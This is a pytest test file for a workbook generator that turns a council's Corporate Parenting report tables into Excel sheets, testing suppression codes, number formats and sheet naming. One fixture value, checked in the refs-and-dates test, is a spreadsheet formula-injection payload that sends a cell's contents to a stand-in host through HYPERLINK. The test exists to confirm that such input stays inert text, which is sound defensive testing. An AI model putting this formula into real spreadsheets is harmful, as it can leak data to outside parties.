"""The Excel download: one sheet per published table or chart data, numbered as in the document."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from cpkit.config import Config, Period
from cpkit.present.disclosure import Rule
from cpkit.publish import MIME, Block, Figure
from cpkit.publish.figure import not_applicable, not_available
from cpkit.publish.read import report_blocks
from cpkit.report.document import ANNEX_NAME, DOCUMENT_NAME, Numbered
from cpkit.report.execute import SectionRun
from cpkit.report.sections import Section
from cpkit.report.workbook import MAX_SHEET_NAME, WORKBOOK_NAME, build_workbook, tidy

PERIOD = Period.from_year(2025)
RULE = Rule(5, "<5")


def _blocks(runs: list[SectionRun]) -> list[Block]:
    """The runs' blocks as the runner reads them once and hands them to the workbook."""
    return report_blocks((r.name, r.output) for r in runs)


def _executed(path: Path, blocks: list[Block]) -> Path:
    """An executed notebook as papermill leaves it: outputs carrying the typed blocks (as JSON, so a
    hidden figure's value is already gone)."""
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<p>x</p>", MIME: b.to_json()})
        for b in blocks
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# A section"), cell]
    nbformat.write(nb, str(path))
    return path


def _table_rows(ws) -> list[tuple]:
    """The sheet's one Excel table, header row first, as values."""
    (ref,) = [t.ref for t in ws.tables.values()]
    return [tuple(c.value for c in row) for row in ws[ref]]


def _header_row(ws) -> int:
    (table,) = ws.tables.values()
    return int("".join(ch for ch in table.ref.split(":")[0] if ch.isdigit()))


def _pct(value: float, decimals: int = 0) -> Figure:
    return RULE.pct(value, 50, 100, decimals)


def _points(value: float) -> Figure:
    return Figure(f"{value:+.1f}", value, "points", 1)


PRIORITIES = Block(
    "board-priorities/the-board-s-priorities",
    "table",
    "The Board's priorities",
    ["Priority", "Champions"],
    [["1. Promoting success", "Cllr A Patel"], ["2. Leaving care", "Cllr S Begum"]],
)


@pytest.fixture
def workbook(tmp_path: Path):
    a, b = Section("01_a", "Alpha", "A."), Section("02_b", "Beta", "B.")
    ages = Block(
        "ages",
        "table",
        "Ages",
        ["Age", "Children", "%"],
        [
            ["Under 1", RULE.count(3), RULE.pct(15.0, 3, 20)],  # a small count and its share
            ["1 to 4", RULE.count(12), _pct(4.5, 1)],
            ["Total", RULE.count(20), _pct(100)],
        ],
        notes=["Ages at 31 March."],
    )
    scorecard = Block(
        "scorecard",
        "table",
        "Scorecard",
        ["Indicator", "2024-25", "Change", "Statistical neighbours (2024-25)", "Councils averaged"],
        [
            ["Children in care", "", "", "", ""],
            [
                "Children looked after",
                RULE.count(457),
                Figure("+12", 12, "count"),
                RULE.count(457),
                RULE.count(10),
            ],
            ["Health assessments", _pct(90.5, 1), _points(-0.2), _pct(67.1, 1), RULE.count(9)],
            ["Care leavers", "", "", "", ""],
            [
                "In touch",
                RULE.pct(80.0, 4, 5),  # 4 of 5: hidden
                not_applicable("points", "no earlier year"),
                not_available("percent", "not published"),
                not_available("count"),
            ],
        ],
    )
    chart = Block(
        "children-in-care",
        "chart",
        "Children in care",
        ["Month", "Children"],
        [["Apr 2024", RULE.count(450)], ["May 2024", RULE.count(1445)]],
    )
    runs = [
        SectionRun("01_a", _executed(tmp_path / "01_a.ipynb", [chart, ages, scorecard]), True, 1.0),
        SectionRun(
            "02_b",
            _executed(
                tmp_path / "02_b.ipynb",
                [
                    Block("not-shown", "table", "Not shown on the page", ["X"], [["007"]]),
                    Block(
                        "every-action",
                        "table",
                        "Every action",
                        ["Ref", "Action", "Due"],
                        [
                            [
                                "5.10",
                                '=HYPERLINK("http://x.example/"&A1,"click")',
                                Figure("31 Dec 2024", date(2024, 12, 31), "date"),
                            ],
                            ["5.1", "+44 1234", "Q3 2024/25"],
                        ],
                    ),
                ],
            ),
            True,
            1.0,
        ),
    ]
    numbered = [  # as the document numbers them, each naming its block; captions need not match
        Numbered("Figure", 1, "01_a", "Children in care", "Children in care", block="01_a/children-in-care"),
        Numbered("Table", 1, "01_a", "Ages at 31 March", "Ages at 31 March", block="01_a/ages"),
        Numbered("Table", 2, "01_a", "Scorecard", "Scorecard", block="01_a/scorecard"),
        Numbered("Table", 3, "02_b", "Every action", "Every action", block="02_b/every-action"),
        Numbered(
            "Table",
            4,
            "board-priorities",
            PRIORITIES.caption,
            PRIORITIES.caption,
            block=PRIORITIES.id,
            words=PRIORITIES,
        ),
    ]
    config = Config(la_name="Test Council", small_number_threshold=5, suppression_symbol="<5")
    path = build_workbook(
        tmp_path / WORKBOOK_NAME,
        [a, b],
        _blocks(runs),
        numbered,
        config,
        PERIOD,
        contact="performance@test.example",
        published="14 July 2025",  # as the report's cover prints cover.yaml's date
    )
    return load_workbook(path)


def _text(ws) -> str:
    return " ".join(str(c) for row in ws.iter_rows(values_only=True) for c in row if c is not None)


def test_cover_contents_and_notes_come_first(workbook):
    assert workbook.sheetnames == [
        "Cover",
        "Contents",
        "Notes",
        "Figure 1",
        "Table 1",
        "Table 2",
        "Table 3",
        "Table 4",  # the Board's own words have their sheet too
        "Data 1",
    ]
    cover = _text(workbook["Cover"])
    assert workbook["Cover"]["A1"].value.startswith("Test Council: Corporate Parenting annual report 2024-25")
    for wanted in (
        "1 April 2024 to 31 March 2025",  # period
        "Source: the council's SSDA903 returns",  # source
        "performance@test.example",  # contact
        "Published: 14 July 2025.",  # the report's date
        "[c] (confidential) stands for a figure the report does not show: a count from 1 to 4 (printed <5",
        "[c]: confidential",
        "[x]: not available",
        "[z]: not applicable",
    ):
        assert wanted in cover, wanted
    assert "[low]" not in cover  # no cell is written [low], so the key does not explain it
    contents = workbook["Contents"]
    listed = [r[0] for r in _table_rows(contents)[1:]]
    assert listed == workbook.sheetnames[3:]
    assert contents.cell(_header_row(contents) + 2, 1).hyperlink.location == "'Table 1'!A1"
    notes = _table_rows(workbook["Notes"])
    assert notes[0] == ("Note number", "Note text") and len(notes) == 5
    assert any("[z]: not applicable" in str(text) for _, text in notes)


def test_every_data_sheet_is_one_excel_table_with_no_blank_row_above(workbook):
    for name in workbook.sheetnames[3:]:
        ws = workbook[name]
        assert len(ws.tables) == 1, f"{name}: one Excel table"
        top = _header_row(ws)
        above = [ws.cell(r, 1).value for r in range(1, top)]
        assert all(v not in (None, "") for v in above), f"{name}: blank row above the table: {above}"
        assert str(ws["A1"].value).startswith(name.split(" (")[0]) or name.startswith("Data")


def test_figures_are_numbers_and_hidden_ones_gss_shorthand(workbook):
    ages = _table_rows(workbook["Table 1"])
    # the page's "<5" is [c] in a sheet (its note says what it stands for); 3 of 20 (15%) hides its share too
    assert ages == [
        ("Age", "Children", "%"),
        ("Under 1", "[c]", "[c]"),
        ("1 to 4", 12, 0.045),
        ("Total", 20, 1.0),
    ]
    ws = workbook["Table 1"]
    assert ws.cell(_header_row(ws) + 2, 3).number_format == "0.0%"
    assert ws.cell(_header_row(ws) + 2, 2).number_format == "#,##0"
    assert "Note: Ages at 31 March." in _text(ws)  # the table's note travels with it
    # rows of different measures: one unit per column is kept by a Unit column; a column of one unit
    # keeps its heading; heading rows are a column
    assert _table_rows(workbook["Table 2"]) == [
        (
            "Group",
            "Indicator",
            "Unit",
            "2024-25",
            "Change",
            "Statistical neighbours (2024-25)",
            "Councils averaged",
        ),
        ("Children in care", "Children looked after", "number", 457, 12, 457, 10),
        (
            "Children in care",
            "Health assessments",
            "percentage (changes in percentage points)",
            0.905,
            -0.2,
            0.671,
            9,
        ),
        ("Care leavers", "In touch", "percentage (changes in percentage points)", "[c]", "[z]", "[x]", "[x]"),
    ]
    ws2 = workbook["Table 2"]
    assert ws2.cell(_header_row(ws2) + 2, 5).number_format == "#,##0.0"  # -0.2 points, as printed
    month, children = _table_rows(workbook["Figure 1"])[1]
    assert children == 450
    assert _table_rows(workbook["Data 1"])[1:] == [("007",)], "a code with a leading zero stays text"
    assert _table_rows(workbook["Table 4"]) == [
        ("Priority", "Champions"),
        ("1. Promoting success", "Cllr A Patel"),
        ("2. Leaving care", "Cllr S Begum"),
    ]


def test_a_column_of_one_unit_names_it_in_its_heading(tmp_path):
    block = Block(
        "t",
        "table",
        "Shares",
        ["Group", "Share", "Distance"],
        [["a", _pct(40), Figure("12.5", 12.5, "miles", 1)], ["b", _pct(60), Figure("3.0", 3.0, "miles", 1)]],
    )
    runs = [SectionRun("01_a", _executed(tmp_path / "n.ipynb", [block]), True, 1.0)]
    numbered = [Numbered("Table", 1, "01_a", "Shares", "Shares", block="01_a/t")]
    wb = load_workbook(
        build_workbook(
            tmp_path / "x.xlsx", [Section("01_a", "A", "A.")], _blocks(runs), numbered, Config(), PERIOD
        )
    )
    assert _table_rows(wb["Table 1"]) == [
        ("Group", "Share (%)", "Distance (miles)"),
        ("a", 0.4, 12.5),
        ("b", 0.6, 3.0),
    ]


def test_refs_and_input_text_stay_text_and_dates_are_dates(workbook):
    rows = _table_rows(workbook["Table 3"])
    assert [r[0] for r in rows[1:]] == ["5.10", "5.1"], "refs are text: 5.10 is not 5.1"
    assert rows[1][1] == '=HYPERLINK("http://x.example/"&A1,"click")', "a formula from input stays text"
    assert rows[2][1] == "+44 1234"
    ws3 = workbook["Table 3"]
    top = _header_row(ws3)
    assert ws3.cell(top + 1, 2).quotePrefix and ws3.cell(top + 2, 2).quotePrefix, "marked as text for Excel"
    assert rows[1][2] == datetime(2024, 12, 31) and rows[2][2] == "Q3 2024/25"
    ws = workbook["Table 3"]
    assert ws.cell(_header_row(ws) + 1, 3).number_format == "d mmm yyyy"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_sheet_names_are_unique_short_and_valid(tmp_path):
    long = "A caption: far [too] long/for an Excel sheet name? yes"
    blocks = [Block(f"t{i}", "table", long, ["A"], [[RULE.count(1 + i)]]) for i in (1, 2, 3)]
    runs = [SectionRun("01_a", _executed(tmp_path / "n.ipynb", blocks), True, 1.0)]
    numbered = [Numbered("Table", i, "01_a", long, long, block=f"01_a/t{i}") for i in (1, 2, 3)]
    names = load_workbook(
        build_workbook(
            tmp_path / "x.xlsx", [Section("01_a", "A", "A.")], _blocks(runs), numbered, Config(), PERIOD
        )
    ).sheetnames
    assert len(set(names)) == len(names) == 6 and all(len(n) <= MAX_SHEET_NAME for n in names)


# --- the sample report ----------------------------------------------------------------------------------


def _as_printed(value: float, number_format: str) -> str:
    """A number as the report prints it, from the sheet's number format ("0.0%" -> "45.2%")."""
    places = len(number_format.split(".")[1].rstrip("%")) if "." in number_format else 0
    if number_format.endswith("%"):
        return f"{abs(value) * 100:,.{places}f}%"
    return f"{abs(value):,.{places}f}"


@pytest.mark.slow
@pytest.mark.xdist_group("sample_report")
def test_sample_workbook_reads_the_same_as_the_document(sample_report):
    """Every table sheet holds the table of that number in the Board's report ("Table 3") or the technical
    annex ("Table A3"): same caption, as many rows, and each number in a row printed as the sheet's number
    format prints it is in the document's row (the workbook holds what the report shows, nothing finer)."""
    wb = load_workbook(sample_report / WORKBOOK_NAME)
    doc_tables = {}
    for name in (DOCUMENT_NAME, ANNEX_NAME):
        soup = BeautifulSoup((sample_report / name).read_text(encoding="utf-8"), "html.parser")
        for table in soup.find_all("table"):
            number, _, caption = table.caption.get_text().partition(": ")
            body = [
                " ".join(c.get_text(" ") for c in tr.find_all(["th", "td"])).replace("\u2212", "-")
                for tr in table.find("tbody").find_all("tr")
            ]
            doc_tables[number] = (caption, body)
    compared = 0
    for name in wb.sheetnames[3:]:
        if not name.startswith("Table"):
            continue
        ws = wb[name]
        caption, doc_rows = doc_tables[name]
        assert str(ws["A1"].value).startswith(f"{name}: {caption}")
        top = _header_row(ws)
        rows = list(ws.iter_rows(min_row=top + 1, max_row=top + len(_table_rows(ws)) - 1))
        grouped = ws.cell(top, 1).value == "Group"
        groups = {" ".join(str(r[0].value).split()) for r in rows} if grouped else set()
        texts = [t for t in doc_rows if " ".join(t.split()) not in groups]  # heading rows are a column
        assert len(texts) == len(rows), f"{name}: {len(rows)} rows, the document's has {len(texts)}"
        for row, text in zip(rows, texts, strict=True):
            for cell in row:
                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    printed = _as_printed(cell.value, cell.number_format or "0")
                    assert printed in text, f"{name}: {printed} is not in the document's row {text!r}"
        compared += 1
    tables_in_document = {n for n in doc_tables if n.startswith("Table")}
    assert {n for n in wb.sheetnames if n.startswith("Table")} == tables_in_document, (
        "every table of the document has its sheet"
    )
    assert compared == len(tables_in_document)


def test_a_cell_of_symbols_alone_is_not_available_and_the_workbook_is_written(tmp_path):
    # gptables refuses a cell with no letter or digit ("%", "-", ""): a tracker's "—" and a row of a
    # several-unit table with no figure must not stop the workbook
    block = Block(
        "t",
        "table",
        "Mixed",
        ["Measure", "Value", "Note"],
        [["Children", RULE.count(12), "—"], ["Share", _pct(40), "-"], ["Heading only", "", "fine"]],
    )
    runs = [SectionRun("01_a", _executed(tmp_path / "n.ipynb", [block]), True, 1.0)]
    numbered = [Numbered("Table", 1, "01_a", "Mixed", "Mixed", block="01_a/t")]
    wb = load_workbook(
        build_workbook(
            tmp_path / "x.xlsx", [Section("01_a", "A", "A.")], _blocks(runs), numbered, Config(), PERIOD
        )
    )
    assert _table_rows(wb["Table 1"]) == [
        ("Measure", "Unit", "Value", "Note"),
        ("Children", "number", 12, "[x]"),
        ("Share", "percentage", 0.4, "[x]"),
        ("Heading only", "[z]", "[x]", "fine"),
    ]


def test_a_row_of_figures_not_given_is_a_row_not_a_group_heading():
    # A council with no figure for a measure and no neighbours' figure prints nothing in each cell of its
    # row (the regional comparison's Dunham); its row is still a row, of [x], not a heading that would
    # take the row away and add a Group column.
    block = Block(
        "t",
        "table",
        "Fostered",
        ["Council", "Figure (%)", "Neighbours (%)"],
        [["Ayton", _pct(40), _pct(41)], ["Dunham", not_available("percent"), not_available("percent")]],
    )
    tidied = tidy(block)
    assert list(tidied.frame.columns) == ["Council", "Figure (%)", "Neighbours (%)"]
    assert tidied.frame.to_numpy().tolist() == [["Ayton", 0.4, 0.41], ["Dunham", "[x]", "[x]"]]
